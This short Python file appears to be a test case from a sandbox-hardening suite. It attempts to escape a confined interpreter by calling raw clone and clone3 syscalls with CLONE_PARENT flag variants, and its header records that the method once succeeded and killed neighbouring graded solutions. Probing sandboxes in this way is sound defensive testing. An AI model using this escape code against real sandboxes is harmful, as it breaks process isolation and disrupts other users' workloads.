# tries: end the interpreter that it was forked from with a child of that one's; worked on 5ee7338: it, its neighbours and solutions under grading ended as our failure
# outcome: succeeded
# victim: yes
from hostile import *
import time
CLONE_PARENT, SIGCHLD, me = 0x8000, 17, os.getpid()
for flags in CLONE_PARENT | SIGCHLD, CLONE_PARENT, CLONE_PARENT | 0x1000000 | SIGCHLD, 0xFFFF00000000 | CLONE_PARENT | SIGCHLD:
    child = libc.syscall(56, ctypes.c_ulong(flags), 0, 0, 0, 0)  # clone
    if os.getpid() != me:
        os._exit(0)
    if child >= 0:
        time.sleep(1)
        escaped("a child of its parent, by %#x" % flags)
args = (ctypes.c_uint64 * 11)(CLONE_PARENT, 0, 0, 0, SIGCHLD)
if libc.syscall(435, args, 88) >= 0:  # clone3
    escaped("a child of its parent, by clone3")
time.sleep(0.2)
contained()
